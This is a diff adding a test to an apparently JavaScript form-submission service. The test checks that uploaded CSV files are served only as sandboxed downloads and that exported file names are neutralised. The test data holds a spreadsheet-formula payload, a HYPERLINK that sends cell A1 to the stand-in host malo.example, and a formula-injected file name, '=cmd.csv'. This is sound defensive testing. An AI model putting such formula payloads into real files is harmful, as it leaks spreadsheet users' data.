@@ -35,6 +35,26 @@ test("a submission is stored with its files, and an owner downloads the same byt
   });
 });
 
+test("C17 a visitor's CSV comes back byte by byte, as a download that no browser shows, and an export of ours has its name as text", async () => {
+  const { app, owner, form } = await setup();
+  const formula = Buffer.from('nombre,nota\r\n"=HYPERLINK(""https://malo.example/?""&A1,""ver"")",1\r\n');
+  await postFiles(app, form, [["lista", "=cmd.csv", formula]]);
+
+  const [file] = await listFiles(app, owner);
+  const headers = { authorization: `Bearer ${owner.key}` };
+  const download = await fetch(`${app.url}/api/v1/submissions/files/${file?.id}`, { headers });
+  const table = await (await fetch(`${app.url}/api/v1/submissions.csv`, { headers })).text();
+
+  expect(Buffer.from(await download.arrayBuffer())).toEqual(formula);
+  expect(Object.fromEntries(download.headers)).toMatchObject({
+    "content-disposition": 'attachment; filename="=cmd.csv"',
+    "content-type": expect.stringMatching(/^text\/csv/),
+    "x-content-type-options": "nosniff",
+    "content-security-policy": expect.stringMatching(/; sandbox(?:;|$)/),
+  });
+  expect(table).toContain("'=cmd.csv");
+});
+
 test("the fields beside files keep their order, their repetitions and their letters", async () => {
   const { app, owner, form } = await setup();
   const body = Buffer.from(
